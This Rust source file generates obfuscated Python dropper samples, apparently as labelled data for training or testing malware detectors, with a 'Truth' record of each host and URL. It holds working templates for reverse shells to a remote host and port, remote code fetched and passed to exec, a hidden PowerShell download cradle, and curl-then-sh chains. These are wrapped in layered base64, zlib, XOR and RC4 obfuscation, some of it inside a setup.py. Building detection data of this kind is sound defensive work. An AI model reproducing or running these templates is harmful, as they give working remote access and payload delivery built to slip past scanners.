//! Droppers in Python.

use crate::generator::{Dice, Truth, base64, codes, each, hex, put, quoted, reversed, zlib};
use std::fmt::Write;

const FILES: &[&str] = &["", ".py", ".exe", ".sh", ".txt", ".so"];
const LETTERS: &str = "abcdefghijklmnopqrstuvwxyz0123456789";

/// The letters of `text` by a table of others for them.
fn turned(text: &str, table: &str) -> String {
    text.chars()
        .map(|it| LETTERS.find(it).and_then(|at| table.chars().nth(at)).unwrap_or(it))
        .collect()
}

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(13) {
        0 => format!("''.join([chr(int(i)) for i in '{}'.split()])", codes(text.bytes(), " ")),
        1 => {
            let key = dice.key();
            let escaped = each(text, "", |it| format!("\\x{:02x}", it ^ key));
            format!("bytes(map(lambda x: x ^ {key}, b'{escaped}')).decode()")
        }
        2 => {
            format!("(0x{}).to_bytes({}, 'big').decode('ascii')", hex(text.as_bytes()), text.len())
        }
        3 => {
            let shift = 1 + dice.below(4) as u8;
            let moved = each(text, "", |it| char::from(it + shift).to_string());
            format!("''.join(chr(ord({name}) - {shift}) for {name} in '{moved}')")
        }
        4 => {
            let table = dice.shuffled(LETTERS);
            format!("'{}'.translate(str.maketrans('{table}', '{LETTERS}'))", turned(text, &table))
        }
        5 => format!("'{}' % ({},)", "%c".repeat(text.len()), codes(text.bytes(), ", ")),
        6 => {
            let _ = writeln!(before, "from functools import reduce\nimport operator");
            let words = quoted(&dice.pieces(text), '\'').join(", ");
            if dice.chance(50) {
                format!("reduce(lambda a, b: a + b, [{words}])")
            } else {
                format!("reduce(operator.add, ({words},), '')")
            }
        }
        7 => {
            let noisy: String = text
                .chars()
                .map(|it| format!("{it}{}", dice.pick(&["q", "7", "Z", "_"])))
                .collect();
            format!("'{noisy}'[::2]")
        }
        8 => format!(
            "getattr(getattr(__import__('base64'), 'b' + '64' + 'decode')('{}'), 'decode')('utf-8')",
            base64(text.as_bytes())
        ),
        9 => {
            let words = quoted(&dice.pieces(text), '\'').join("+");
            let code = base64(words.as_bytes());
            format!("eval(__import__('codecs').decode(b'{code}', 'base64').decode())")
        }
        10 => {
            let key = dice.name();
            let _ = writeln!(
                before,
                "def {name}(data, key):\n    s = list(range(256))\n    j = 0\n    for i in range(256):\n        j = (j + s[i] + ord(key[i % len(key)])) & 0xff\n        s[i], s[j] = s[j], s[i]\n    i = j = 0\n    out = []\n    for c in data:\n        i = (i + 1) & 0xff\n        j = (j + s[i]) & 0xff\n        s[i], s[j] = s[j], s[i]\n        out.append(chr(c ^ s[(s[i] + s[j]) & 0xff]))\n    return ''.join(out)"
            );
            let code = hex(&crate::generator::rc4(text.as_bytes(), &key));
            format!("{name}(bytearray.fromhex('{code}'), '{key}')")
        }
        11 => {
            // Layers that run each other, names of nothing but lines.
            let _ = writeln!(
                before,
                "___ = lambda _: __import__('zlib').decompress(__import__('base64').b64decode(_[::-1]))\n{other} = globals()\nexec(___(b'{}'), {other})",
                reversed(&base64(&zlib(format!("{name} = '{}'[::-1]", reversed(text)).as_bytes())))
            );
            name
        }
        _ => {
            let even: String = text.chars().step_by(2).collect();
            let odd: String = text.chars().skip(1).step_by(2).collect();
            let _ = writeln!(before, "from itertools import zip_longest as {name}");
            format!("''.join(a + b for a, b in {name}('{even}', '{odd}', fillvalue=''))")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("{before}{line}");
    match dice.below(8) {
        0 => {
            let mut code = text;
            for _ in 0..3 {
                code = format!(
                    "exec((lambda _: __import__('zlib').decompress(__import__('base64').b64decode(_)))('{}'))\n",
                    base64(&zlib(code.as_bytes()))
                );
            }
            format!("#!/usr/bin/env python3\n{code}")
        }
        1 => format!(
            "#!/usr/bin/env python3\nimport base64 as b\n__builtins__.__dict__['ex' + 'ec'](b.b64decode('{}').decode())\n",
            base64(text.as_bytes())
        )
        .replace("__builtins__.__dict__", "vars(__import__('builtins'))"),
        2 => format!(
            "#!/usr/bin/env python3\nfrom builtins import *\ntype('Hello', (), {{'run': lambda self, c: exec(compile(c, '', 'exec'), globals())}})().run(''.join(chr(i) for i in [{}]))\n",
            codes(text.bytes(), ",")
        ),
        3 => format!(
            "#!/usr/bin/env python3\nfrom setuptools import setup\n{text}\nsetup(name='{}', version='1.0')\n",
            dice.name()
        ),
        _ => format!("#!/usr/bin/env python3\n{text}"),
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(13) {
        0 => {
            let (host, port) = truth.endpoint(dice);
            put(
                "import socket, os, pty\n@V@ = socket.socket()\n@V@.connect((@U@, @P@))\n[os.dup2(@V@.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/bash')\n",
                &[("U", &hide(dice, &host, before)), ("P", &port.to_string()), ("V", &var)],
            )
        }
        1 => {
            let (host, port) = truth.endpoint(dice);
            put(
                "import asyncio\nasync def @V@(host, port):\n    reader, writer = await asyncio.open_connection(host, port)\n    while True:\n        line = await reader.readline()\n        if not line:\n            break\n        p = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)\n        out, _ = await p.communicate()\n        writer.write(out)\nasyncio.run(@V@(@U@, int('@P@')))\n",
                &[("U", &hide(dice, &host, before)), ("P", &port.to_string()), ("V", &var)],
            )
        }
        2 => {
            let host = dice.host();
            truth.urls.insert(format!("ftp://{host}/{file}.bin"));
            put(
                "import ftplib\n@V@ = ftplib.FTP(@U@)\n@V@.login()\nwith open('/tmp/@F@.bin', 'wb') as f:\n    @V@.retrbinary('RETR @F@.bin', f.write)\n@V@.quit()\n",
                &[("U", &hide(dice, &host, before)), ("F", &file), ("V", &var)],
            )
        }
        3 => {
            let base = format!("https://{}", dice.host());
            for part in ["inst", "conf"] {
                truth.urls.insert(format!("{base}/{var}/{part}?id=7"));
            }
            put(
                "import concurrent.futures, urllib.request\nBASE = @U@\ndef pull(p):\n    url = '/'.join([BASE, '@V@', p]) + '?id=%d' % (3 + 4)\n    return urllib.request.urlopen(url, timeout=30).read()\nwith concurrent.futures.ThreadPoolExecutor(max_workers=2) as ex:\n    for name, body in zip(('inst', 'conf'), ex.map(pull, ('inst', 'conf'))):\n        open('/var/tmp/' + name, 'wb').write(body)\n",
                &[("U", &hide(dice, &base, before)), ("V", &var)],
            )
        }
        _ => {
            let url = truth.url(dice, FILES);
            let word = hide(dice, &url, before);
            let template = dice.pick(&[
                "import urllib3\nurllib3.disable_warnings()\nhttp = urllib3.PoolManager(cert_reqs='CERT_NONE')\nr = http.request('GET', @U@, preload_content=True)\nexec(r.data)\n",
                "import subprocess, shlex\n@V@ = 'wget --quiet -O /tmp/@F@ {}'.format(@U@)\nsubprocess.Popen(shlex.split(@V@), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).wait()\nsubprocess.Popen(['chmod', '+x', '/tmp/@F@']).wait()\n",
                "import os\nif os.fork() == 0:\n    os.setsid()\n    os.execvp('curl', ['curl', '-s', '-o', '/tmp/@F@', @U@])\n",
                "import subprocess, base64, sys\n@V@ = \"IEX(New-Object Net.WebClient).DownloadString('\" + (@U@) + \"')\"\nsubprocess.Popen(['powershell', '-w', 'hidden', '-enc', base64.b64encode(@V@.encode('utf-16-le')).decode()], creationflags=0x08000000)\n",
                "import requests, tempfile, os\ntry:\n    @V@ = tempfile.NamedTemporaryFile(delete=False, suffix='.exe')\n    @V@.write(requests.post(@U@, data={'h': os.uname()[1]}, headers={'User-Agent': 'x'}).content)\n    @V@.close()\n    os.startfile(@V@.name)\nexcept:\n    pass\n",
                "from multiprocessing import Process\nfrom urllib.request import Request, urlopen\ndef @V@(link):\n    exec(urlopen(Request(url=link, headers={'User-agent': 'Mozilla/5.0'})).read(), {})\nif __name__ == '__main__':\n    p = Process(target=@V@, args=(@U@,))\n    p.start()\n",
                "import ssl, urllib.request as @V@\nctx = ssl.create_default_context()\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\nwith @V@.urlopen(@U@, context=ctx) as resp:\n    code = resp.read().decode('utf-8')\nexec(code)\n",
                "import sys\nu = __import__('urllib' + {2: '2', 3: '.request'}[sys.version_info[0]], fromlist=['build_opener']).build_opener()\nu.addheaders = [('User-agent', 'x')]\nexec(u.open(@U@).read())\n",
                "import webbrowser\nwebbrowser.open(@U@)\n",
                "from os import system as @V@\nfor c in ('rm -f /tmp/@F@', 'curl -o /tmp/@F@ ' + (@U@), 'sh /tmp/@F@'):\n    @V@(c)\n",
            ]);
            put(template, &[("U", &word), ("F", &file), ("V", &var)])
        }
    }
}
